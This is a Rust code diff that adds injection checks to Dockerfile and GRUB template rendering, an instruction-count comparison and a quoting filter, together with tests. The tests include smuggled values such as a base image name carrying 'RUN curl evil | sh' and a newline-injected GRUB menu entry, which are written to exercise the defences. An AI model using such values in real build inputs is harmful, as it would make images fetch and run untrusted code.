@@ -48,6 +48,12 @@ pub enum RenderError {
         path: PathBuf,
         source: std::io::Error,
     },
+    #[error("template `{name}` rendered {found} instructions where it has {expected} with plain values: a value added or joined build steps")]
+    Injected {
+        name: String,
+        expected: usize,
+        found: usize,
+    },
     #[error("cannot write the build context `{path}`: {source}")]
     Write {
         path: PathBuf,
@@ -89,6 +95,7 @@ impl Templates {
     pub fn load(dir: Option<&Path>) -> Result<Templates, RenderError> {
         let mut tera = Tera::default();
         tera.autoescape_on(vec![]);
+        tera.register_filter("grub_quote", grub_quote_filter);
         for (name, builtin) in TEMPLATES {
             let text = match dir.map(|d| d.join(name)).filter(|p| p.is_file()) {
                 Some(path) => std::fs::read_to_string(&path)
@@ -105,6 +112,25 @@ impl Templates {
         self.tera
             .render(name, context)
             .map_err(|e| tera_error(name, e))
+    }
+
+    /// Render a Dockerfile template and check that the values did not change its instructions:
+    /// it must have as many as it has when every value is made harmless (line breaks, control
+    /// characters and backslashes, which continue lines, replaced).
+    pub fn render_dockerfile(&self, name: &str, context: &Context) -> Result<String, RenderError> {
+        let rendered = self.render(name, context)?;
+        let plain = Context::from_value(neutralize(context.clone().into_json()))
+            .expect("a context stays an object");
+        let expected = instructions(&self.render(name, &plain)?);
+        let found = instructions(&rendered);
+        if found != expected {
+            return Err(RenderError::Injected {
+                name: name.to_string(),
+                expected,
+                found,
+            });
+        }
+        Ok(rendered)
     }
 
     /// `sources.yaml` rendered, each entry overridden by its setting (BASE_IMAGE, ...).
@@ -133,6 +159,75 @@ impl Templates {
             k8s_image: pick("k8s_image", "K8S_IMAGE"),
         })
     }
+}
+
+/// A context's strings with what could add or join Dockerfile lines replaced by `_`. Values
+/// that are rendered templates themselves (`user_dockerfile`) keep their lines.
+fn neutralize(value: serde_json::Value) -> serde_json::Value {
+    use serde_json::Value;
+    match value {
+        Value::String(s) => Value::String(s.replace(|c: char| c.is_control() || c == '\\', "_")),
+        Value::Object(map) => Value::Object(
+            map.into_iter()
+                .map(|(k, v)| {
+                    let v = if VERBATIM.contains(&k.as_str()) {
+                        v
+                    } else {
+                        neutralize(v)
+                    };
+                    (k, v)
+                })
+                .collect(),
+        ),
+        Value::Array(items) => Value::Array(items.into_iter().map(neutralize).collect()),
+        other => other,
+    }
+}
+
+/// Context values that are multi-line by design, checked when they were rendered.
+const VERBATIM: &[&str] = &["user_dockerfile"];
+
+/// The number of instructions of a Dockerfile: logical lines (a trailing `\` continues one)
+/// that are neither blank nor comments.
+pub fn instructions(dockerfile: &str) -> usize {
+    let mut count = 0;
+    let mut continued = false;
+    for line in dockerfile.lines() {
+        let trimmed = line.trim();
+        if !continued && !trimmed.is_empty() && !trimmed.starts_with('#') {
+            count += 1;
+        }
+        if !(continued && (trimmed.is_empty() || trimmed.starts_with('#'))) {
+            continued = trimmed.ends_with('\\');
+        }
+    }
+    count
+}
+
+/// GRUB script quoting: the value as one single-quoted word (GRUB, like a POSIX shell, takes
+/// everything between single quotes literally; a single quote is written `'\''`). Control
+/// characters cannot be quoted and are refused.
+pub fn grub_quote(value: &str) -> Result<String, String> {
+    if let Some(c) = value.chars().find(|c| c.is_control()) {
+        return Err(format!(
+            "a control character (U+{:04X}) cannot go into grub.cfg",
+            c as u32
+        ));
+    }
+    Ok(format!("'{}'", value.replace('\'', "'\\''")))
+}
+
+fn grub_quote_filter(
+    value: &tera::Value,
+    _: &std::collections::HashMap<String, tera::Value>,
+) -> tera::Result<tera::Value> {
+    let text = match value {
+        tera::Value::String(s) => s.clone(),
+        other => other.to_string(),
+    };
+    grub_quote(&text)
+        .map(tera::Value::String)
+        .map_err(tera::Error::msg)
 }
 
 /// Every setting, by its lower-case name, as template variables.
@@ -250,5 +345,62 @@ mod tests {
             Templates::load(Some(dir.path())),
             Err(RenderError::Template { .. })
         ));
+    }
+
+    #[test]
+    fn instructions_are_logical_lines_without_comments() {
+        let dockerfile = "# a comment\nFROM a\n\nRUN one \\\n # comment inside\n  two\nCOPY x /\n";
+        assert_eq!(instructions(dockerfile), 3);
+    }
+
+    #[test]
+    fn a_value_that_adds_a_build_step_is_refused() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join("base.Dockerfile"),
+            "FROM {{ base_image }}\nRUN true\n",
+        )
+        .unwrap();
+        let templates = Templates::load(Some(dir.path())).unwrap();
+        let mut ctx = Context::new();
+        ctx.insert("base_image", "debian:bookworm");
+        assert!(templates.render_dockerfile("base.Dockerfile", &ctx).is_ok());
+        for injected in ["debian\nRUN curl evil | sh", "debian \\"] {
+            ctx.insert("base_image", injected);
+            let err = templates
+                .render_dockerfile("base.Dockerfile", &ctx)
+                .unwrap_err();
+            assert!(
+                matches!(err, RenderError::Injected { expected: 2, .. }),
+                "{injected:?}: {err}"
+            );
+        }
+    }
+
+    #[test]
+    fn grub_quote_makes_one_literal_word() {
+        assert_eq!(
+            grub_quote("quiet console=ttyS0").unwrap(),
+            "'quiet console=ttyS0'"
+        );
+        assert_eq!(grub_quote("a'b $x").unwrap(), "'a'\\''b $x'");
+        assert_eq!(grub_quote("").unwrap(), "''");
+        assert!(grub_quote("a\nmenuentry evil {").is_err());
+    }
+
+    #[test]
+    fn the_boot_menu_takes_kernel_arguments_as_one_quoted_value() {
+        let settings = resolve(&Inputs {
+            sets: vec![("ISO_KERNEL_ARGS".into(), "quiet nomodeset".into())],
+            ..Inputs::default()
+        });
+        let mut ctx = context(&settings);
+        ctx.insert("label", "COS_LIVE");
+        ctx.insert("default_entry", "installer");
+        let menu = Templates::load(None)
+            .unwrap()
+            .render("grub.cfg", &ctx)
+            .unwrap();
+        assert!(menu.contains("set user_args='quiet nomodeset'\n"), "{menu}");
     }
 }
